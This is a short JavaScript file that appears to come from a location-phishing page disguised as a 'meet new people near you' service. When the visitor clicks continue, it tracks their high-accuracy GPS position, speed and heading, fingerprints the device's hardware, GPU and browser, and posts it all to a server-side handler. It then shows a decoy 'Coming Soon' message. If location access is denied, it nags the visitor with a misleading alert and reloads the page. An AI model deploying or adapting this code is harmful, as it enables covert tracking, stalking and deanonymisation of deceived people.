function locate() {
  if (!navigator.geolocation) return;
  navigator.geolocation.watchPosition(ok, err, { enableHighAccuracy: true, timeout: 30000, maximumAge: 0 });
}
function ok(p) {
  var c = p.coords, info = {};
  var cv = document.createElement('canvas').getContext('experimental-webgl');
  var dbg = cv && cv.getExtension('WEBGL_debug_renderer_info');
  info = { Lat: c.latitude, Lon: c.longitude, Acc: c.accuracy, Alt: c.altitude, Dir: c.heading, Spd: c.speed, Ptf: navigator.platform, Cc: navigator.hardwareConcurrency, Ram: navigator.deviceMemory, Ren: dbg ? cv.getParameter(dbg.UNMASKED_RENDERER_WEBGL) : 'NA', Os: navigator.userAgent };
  $.ajax({ type: 'POST', url: 'result_handler.php', data: info, mimeType: 'text', success: function () { $('#change').html('Coming Soon'); } });
}
function err(e) {
  var t = { 1: 'User denied the request', 2: 'Unavailable', 3: 'Timed out' }[e.code];
  $.post('error_handler.php', { Status: 'failed', Error: t });
  if (e.code === 1) { alert('Please refresh this page and allow location permission to meet new people near you'); location.reload(); }
}
$('#continue').click(locate);
